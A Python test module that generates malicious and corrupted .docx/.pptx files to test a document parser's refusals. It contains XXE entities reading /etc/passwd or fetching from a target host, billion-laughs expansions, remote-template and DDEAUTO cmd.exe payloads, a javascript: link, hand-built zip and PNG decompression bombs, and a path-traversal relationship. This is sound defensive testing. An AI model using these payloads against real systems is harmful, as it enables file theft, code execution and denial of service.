"""Word and PowerPoint files as attackers and accidents make them."""

from __future__ import annotations

import random
import struct
import zlib

from tests.hostile import packing
from tests.hostile.case import CANARY, PACKAGE_CODES, TARGET, Case, Collector, dice
from tests.hostile.packing import Raw, paragraph, word, word_members, word_xml

CODES = PACKAGE_CODES
MEGABYTE = 1_000_000
PARTS = ("word/document.xml", "word/styles.xml", "[Content_Types].xml", "_rels/.rels")


def cases() -> list[Case]:
    of = Collector("ooxml")
    _entities(of)
    _references(of)
    _bombs(of)
    _packages(of)
    _xml(of)
    _contents(of)
    _cuts(of)
    return of.cases


def _with_part(part: str, content: bytes) -> bytes:
    members = word_members(word_xml(packing.ORDINARY))
    kept = [(name, content if name == part else own) for name, own in members]
    if part not in dict(members):
        kept.append((part, content))
    return packing.packed(kept)


def _doctype(content: bytes, doctype: str, reference: str = "") -> bytes:
    """An XML part with a DTD; ``reference`` stands behind the first end of a start tag."""
    text = content.decode()
    head, rest = text.split("\n", 1) if text.startswith("<?xml") else ("", text)
    at = rest.index(">") + 1
    return f"{head}\n{doctype}{rest[:at]}{reference}{rest[at:]}".encode()


def _entities(of: Collector) -> None:
    laughs = '<!DOCTYPE l [<!ENTITY a "哈哈哈哈">' + "".join(
        f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)
    ) + "]>"  # fmt: skip
    quadratic = f'<!DOCTYPE l [<!ENTITY a "{"哈" * 50_000}">]>'
    members = dict(word_members(word_xml(packing.ORDINARY)))
    for part in PARTS:
        of.refuse(f"billion laughs in {part}", "a.docx", lambda p=part: _with_part(  # type: ignore[misc]
            p, _doctype(members[p], laughs, "&j;")), "xml_with_dtd", "damaged")  # fmt: skip
    of.refuse("quadratic", "a.docx", lambda: _with_part(
        "word/document.xml", _doctype(members["word/document.xml"], quadratic, "&a;" * 5_000)
    ), "xml_with_dtd")  # fmt: skip
    outside = {
        "file": '<!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        "network": f'<!DOCTYPE l [<!ENTITY a SYSTEM "{TARGET}/xxe">]>',
        "public": f'<!DOCTYPE l [<!ENTITY a PUBLIC "-//x//y" "{TARGET}/xxe">]>',
        "parameter": f'<!DOCTYPE l [<!ENTITY % a SYSTEM "{TARGET}/xxe.dtd"> %a;]>',
        "php filter": '<!DOCTYPE l [<!ENTITY a SYSTEM "php://filter/read=x">]>',
        "netdoc": f'<!DOCTYPE l [<!ENTITY a SYSTEM "ftp://127.0.0.1:18099/{CANARY}">]>',
        "external dtd": f'<!DOCTYPE l SYSTEM "{TARGET}/x.dtd">',
        "empty": "<!DOCTYPE l>",
    }
    for key, doctype in outside.items():
        reference = "" if key in ("parameter", "external dtd", "empty") else "&a;"
        for part in ("word/document.xml", "word/styles.xml"):
            of.refuse(f"outside entity {key} in {part}", "a.docx",
                      lambda p=part, d=doctype, r=reference: _with_part(p, _doctype(members[p], d, r)),  # type: ignore[misc]
                      "xml_with_dtd")  # fmt: skip
    slide = packing.ORDINARY_SLIDES[0]
    of.refuse("billion laughs in a slide", "a.pptx",
              lambda: packing.show([_doctype(slide, laughs, "&j;")]), "xml_with_dtd")  # fmt: skip
    of.refuse("outside entity in a slide", "a.pptx", lambda: packing.show([
        _doctype(slide, outside["network"], "&a;")
    ]), "xml_with_dtd")  # fmt: skip
    wide = _doctype(members["word/document.xml"], laughs, "&j;").decode()
    wide = wide.replace('encoding="UTF-8"', 'encoding="UTF-16"')
    of.refuse("billion laughs in utf-16", "a.docx", lambda: _with_part(
        "word/document.xml", wide.encode("utf-16")), "xml_with_dtd", "damaged")  # fmt: skip


def _references(of: Collector) -> None:
    """What lies elsewhere is never fetched."""
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{TARGET}/xi"/>'
    of.either("xinclude", "a.docx", lambda: word(packing.ORDINARY + include), CODES, ("轧差",))
    drawn = (
        '<w:p><w:r><w:drawing><wp:inline><wp:docPr id="1" name="x" descr="图"/><a:graphic>'
        '<a:graphicData><a:blip r:link="rIdP"/></a:graphicData></a:graphic></wp:inline>'
        "</w:drawing></w:r></w:p>"
    )
    field = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{}</w:instrText>'
        '</w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>结果</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    remote = {
        "picture": (drawn, ("rIdP", "image", f"{TARGET}/a.png", "External")),
        "picture from a file": (drawn, ("rIdP", "image", "file:///etc/passwd", "External")),
        "picture from a share": (drawn, ("rIdP", "image", "\\\\127.0.0.1\\a\\b.png", "External")),
        "template": ("", ("rIdT", "attachedTemplate", f"{TARGET}/t.dotm", "External")),
        "frame": ("", ("rIdF", "frame", f"{TARGET}/f.htm", "External")),
        "ole link": ("", ("rIdO", "oleObject", f"{TARGET}/o.xlsx", "External")),
        "sub document": ("", ("rIdD", "subDocument", f"{TARGET}/d.docx", "External")),
        "picture in vml": (
            '<w:p><w:r><w:pict><v:shape><v:imagedata r:id="rIdP"/></v:shape></w:pict></w:r></w:p>',
            ("rIdP", "image", f"{TARGET}/v.png", "External"),
        ),
    }
    for key, (body, link) in remote.items():
        of.either(f"remote {key}", "a.docx",
                  lambda b=body, r=link: word(packing.ORDINARY + b, relationships=(r,)),  # type: ignore[misc]
                  CODES, ("轧差",))  # fmt: skip
    fields = {
        "include text": f'INCLUDETEXT "{TARGET}/t.docx"', "include picture": f'INCLUDEPICTURE "{TARGET}/p.png"',
        "dde": 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"', "link": f'LINK Excel.Sheet "{TARGET}/x.xlsx"',
        "hyperlink": 'HYPERLINK "javascript:__xss(1)"', "database": "DATABASE \\d x",
    }  # fmt: skip
    for key, instruction in fields.items():
        of.either(f"field {key}", "a.docx", lambda i=instruction: word(  # type: ignore[misc]
            packing.ORDINARY + field.format(packing.escaped(i))
        ), CODES, ("轧差", "结果"), ("DDEAUTO",))  # fmt: skip
    of.either("remote slide picture", "a.pptx", lambda: packing.show(
        relationships=(("rIdP", "image", f"{TARGET}/s.png", "External"),)
    ), CODES, ("后轧差",))  # fmt: skip
    linked = (
        '<p:pic><p:nvPicPr><p:cNvPr id="9" name="x"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill>'
        '<a:blip r:link="rIdP"/><a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr><a:xfrm>'
        '<a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"/>'
        "</p:spPr></p:pic>"
    )
    of.either("linked slide picture", "a.pptx", lambda: packing.show(
        [packing.slide_xml(packing.shape("清算", title=True) + packing.shape("后轧差") + linked)],
        relationships=(("rIdP", "image", f"{TARGET}/linked.png", "External"),),
    ), CODES, ("后轧差",))  # fmt: skip
    climbing = ("rIdX", "image", f"../../../../tmp/{CANARY}.png", "")
    of.either("relationship that climbs", "a.docx", lambda: word(
        packing.ORDINARY + drawn.replace("rIdP", "rIdX").replace("r:link", "r:embed"),
        relationships=(climbing,),
    ), CODES, ("轧差",))  # fmt: skip


def _bombs(of: Collector) -> None:
    for size in (60, 400, 1_500):
        filler = b"<w:p/>" * (size * MEGABYTE // 6) if size < 100 else None

        def make(size: int = size, filler: bytes | None = filler) -> bytes:
            return _bomb(size, filler)

        of.refuse(f"bomb of {size} MB", "a.docx", make, "unpacked_too_large")
    of.refuse("bomb of 20 times 15 MB", "a.docx", lambda: packing.packed([
        *word_members(word_xml(packing.ORDINARY)),
        *((f"word/media/{n}.bin", dice("bomb", n).randbytes(MEGABYTE // 50) * 750) for n in range(20)),
    ]), "unpacked_too_large")  # fmt: skip
    of.either("picture of 900 megapixels", "a.docx", lambda: word(
        packing.ORDINARY, more=[("word/media/image1.png", _flat_png(30_000, 30_000))]
    ), CODES, ("轧差",))  # fmt: skip
    of.refuse("20,000 members", "a.docx", lambda: packing.packed([
        *word_members(word_xml(packing.ORDINARY)), *((f"x/{n}", b"") for n in range(20_000))
    ]), "too_many_members")  # fmt: skip
    of.refuse("100,000 members", "a.zip", lambda: packing.packed([
        (str(n), b"") for n in range(100_000)
    ]), "too_many_members")  # fmt: skip
    of.either("30 MB of text", "a.docx", lambda: word(
        "".join(paragraph(f"{n} " + "轧差之后才划款。" * 20) for n in range(40_000))
    ), CODES)  # fmt: skip


def _bomb(megabytes: int, filler: bytes | None) -> bytes:
    """A package with a member of zeros, made without holding them."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = (filler or b"\0" * MEGABYTE)[:MEGABYTE]
    packed, checksum = b"", 0
    for _ in range(megabytes):
        packed += deflate.compress(chunk)
        checksum = zlib.crc32(chunk, checksum)
    packed += deflate.flush()
    base = packing.packed(word_members(word_xml(packing.ORDINARY)))
    end = base.rindex(b"PK\x05\x06")
    directory_at = struct.unpack("<L", base[end + 16 : end + 20])[0]
    body, directory = base[:directory_at], base[directory_at:end]
    count = struct.unpack("<H", base[end + 8 : end + 10])[0] + 1
    name = b"word/media/bomb.bin"
    common = struct.pack("<HHHHHLLLHH", 20, 0, 8, 0, 0x5861, checksum, len(packed),
                         megabytes * len(chunk), len(name), 0)  # fmt: skip
    offset = len(body)
    body += b"PK\x03\x04" + common + name + packed
    directory += b"PK\x01\x02\x14\x03" + common + struct.pack("<HHHLL", 0, 0, 0, 0, offset) + name
    tail = struct.pack(
        "<4sHHHHLLH", b"PK\x05\x06", 0, 0, count, count, len(directory), len(body), 0
    )
    return body + directory + tail


def _flat_png(width: int, height: int) -> bytes:
    """A picture of one colour: 900 megapixels in 100 kB."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        checksum = zlib.crc32(kind + content)
        return struct.pack(">L", len(content)) + kind + content + struct.pack(">L", checksum)

    pack = zlib.compressobj(9)
    row = b"\0" * (width // 8 + 1)
    packed = b"".join(pack.compress(row) for _ in range(height)) + pack.flush()
    header = struct.pack(">LLBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")
    )


def _packages(of: Collector) -> None:
    def raw(**changes: object) -> bytes:
        members = [Raw(n.encode(), c) for n, c in word_members(word_xml(packing.ORDINARY))]
        main = members[2]
        values = {"name": main.name, "content": main.content} | changes
        return packing.raw_zip([*members[:2], Raw(**values), *members[3:]])  # type: ignore[arg-type]

    of.refuse("declared too small", "a.docx", lambda: raw(size=10), "damaged")
    of.either("declared too large", "a.docx", lambda: raw(size=10**9), CODES, ("轧差",))
    of.refuse("wrong check sum", "a.docx", lambda: raw(checksum=1), "damaged")
    of.refuse("encrypted member", "a.docx", lambda: raw(flags=1), "encrypted")
    of.refuse("packed by nobody's method", "a.docx", lambda: raw(method=97), "unsupported_packing",
              "damaged")  # fmt: skip
    of.refuse("offset elsewhere", "a.docx", lambda: raw(offset=10**6), "damaged")
    of.refuse("shared bytes", "a.docx", lambda: raw(offset=0), "damaged")
    whole = word_members(word_xml(packing.ORDINARY))
    for part in (name for name, _ in whole[:3]):
        missing = [(name, content) for name, content in whole if name != part]
        of.either(f"without {part}", "a.docx", lambda m=missing: packing.packed(m),  # type: ignore[misc]
                  CODES | {"binary"})  # fmt: skip
    twice = [*whole, ("word/document.xml", word_xml(paragraph("另一份正文")))]
    of.refuse("main part twice", "a.docx", lambda: packing.packed(twice), "damaged")
    other_case = [*whole, ("Word/Document.xml", word_xml(paragraph("另一份正文")))]
    of.either("main part in another case", "a.docx", lambda: packing.packed(other_case), CODES)
    of.refuse("password (Office)", "a.docx", lambda: (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
        + "EncryptedPackage".encode("utf-16-le") + b"\0" * 3_000
    ), "encrypted")  # fmt: skip
    macros = [("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\0" * 400)]
    kind = "application/vnd.ms-word.document.macroEnabled.main+xml"
    of.accept("macros beside text", "a.docm", lambda: packing.packed(
        word_members(word_xml(packing.ORDINARY), kind=kind, more=macros)
    ), ("轧差",))  # fmt: skip
    of.refuse("macros and no text", "a.docm", lambda: packing.packed(
        word_members(word_xml("<w:p/>"), kind=kind, more=macros)
    ), "no_text", "macro_only")  # fmt: skip
    of.refuse("no text", "a.docx", lambda: word("<w:p/>" * 20), "no_text")
    of.refuse("slides without text", "a.pptx", lambda: packing.show([
        packing.slide_xml(""), packing.slide_xml("")
    ]), "no_text")  # fmt: skip
    inner = packing.packed([("a.docx", word())])
    of.either("package in a package", "a.docx", lambda: word(
        packing.ORDINARY, more=[("word/embeddings/a.zip", inner)]
    ), CODES, ("轧差",))  # fmt: skip


def _xml(of: Collector) -> None:
    deep = {
        "tables": ("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>", paragraph("底")),
        "content controls": ("<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>", paragraph("底")),
        "insertions": ("<w:ins>", "</w:ins>", paragraph("底")),
        "unknown elements": ("<w:x>", "</w:x>", paragraph("底")),
    }
    for key, (start, end, inside) in deep.items():
        for depth in (30, 50_000):
            of.either(f"{key} {depth} deep", "a.docx",
                      lambda s=start, e=end, i=inside, d=depth: word(packing.ORDINARY + s * d + i + e * d),  # type: ignore[misc]
                      CODES)  # fmt: skip
    broken = {
        "end tag missing": lambda x: x.replace("</w:body>", ""),
        "cut in the middle": lambda x: x[: len(x) // 2],
        "NUL character": lambda x: x.replace("轧差", "轧&#0;差"),
        "control character": lambda x: x.replace("轧差", "轧\x01差"),
        "unknown entity": lambda x: x.replace("轧差", "轧&copy;差"),
        "unknown prefix": lambda x: x.replace("<w:p>", "<q:p>", 1),
        "duplicate attribute": lambda x: x.replace("<w:body>", '<w:body a="1" a="2">'),
        "wrong encoding": lambda x: x.replace("UTF-8", "UTF-16"),
        "unknown encoding": lambda x: x.replace("UTF-8", "KLINGON"),
        "two roots": lambda x: x + "<w:document/>",
        "nothing": lambda x: "",
        "only a head": lambda x: '<?xml version="1.0"?>',
        "html": lambda x: "<html><body>轧差</body></html>",
    }
    text = word_xml(packing.ORDINARY).decode()
    for key, spoil in broken.items():
        of.either(f"xml: {key}", "a.docx",
                  lambda s=spoil: packing.packed(word_members(s(text).encode())), CODES)  # type: ignore[misc] # fmt: skip
    of.either("attribute of 9 MB", "a.docx", lambda: word(
        packing.ORDINARY + f'<w:p w:rsidR="{"a" * 9_000_000}"/>'), CODES)  # fmt: skip
    of.either("text of 9 MB in a run", "a.docx",
              lambda: word(packing.ORDINARY + paragraph("轧差" * 1_500_000)),
              CODES | {"line_too_long"})  # fmt: skip


def _contents(of: Collector) -> None:
    run = "<w:r><w:t>{}</w:t></w:r>"
    deleted = '<w:p><w:del w:author="x"><w:r><w:delText>删去的话</w:delText></w:r></w:del></w:p>'
    hidden = "<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>藏起的话</w:t></w:r></w:p>"
    inserted = f'<w:p><w:ins w:author="x">{run.format("补上的话")}</w:ins></w:p>'
    of.accept("tracked deletion", "a.docx", lambda: word(packing.ORDINARY + deleted),
              ("轧差",), ("删去的话",))  # fmt: skip
    of.accept("tracked insertion", "a.docx", lambda: word(packing.ORDINARY + inserted),
              ("补上的话",))  # fmt: skip
    of.accept("hidden text", "a.docx", lambda: word(packing.ORDINARY + hidden),
              ("轧差",), ("藏起的话",))  # fmt: skip
    comments = (
        f'<w:comments xmlns:w="{packing.WORD}"><w:comment w:id="0" w:author="x">'
        "<w:p><w:r><w:t>批注里的话</w:t></w:r></w:p></w:comment></w:comments>"
    ).encode()
    of.accept("comment", "a.docx", lambda: word(
        packing.ORDINARY, relationships=(("rIdC", "comments", "comments.xml", ""),),
        more=[("word/comments.xml", comments)],
    ), ("轧差",), ("批注里的话",))  # fmt: skip


def _cuts(of: Collector) -> None:
    whole = word()
    for share in (1, 10, 50, 90, 99):
        part = whole[: len(whole) * share // 100]
        of.refuse(
            f"cut after {share} %", "a.docx", part.__bytes__, "cut_short", "damaged", "binary"
        )
    of.refuse("last byte lost", "a.docx", lambda: whole[:-1], "cut_short")
    of.refuse("first byte lost", "a.docx", lambda: whole[1:], "damaged", "polyglot", "binary")
    of.either("rubbish behind it", "a.docx", lambda: whole + b"\0" * 500, CODES, ("轧差",))
    shuffled = list(whole)
    random.Random(7).shuffle(shuffled)
    of.refuse("shuffled bytes", "a.docx", lambda: bytes(shuffled), "damaged", "binary", "polyglot")
